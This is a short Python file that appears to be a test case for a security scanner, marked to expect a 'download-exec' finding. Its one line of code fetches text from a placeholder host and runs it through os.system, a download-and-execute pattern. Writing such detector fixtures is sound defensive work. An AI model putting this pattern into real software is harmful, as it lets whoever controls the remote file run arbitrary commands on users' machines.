# expect: download-exec 5:4
import os
import requests

os.system(requests.get("https://example.com/cmd.txt").text)
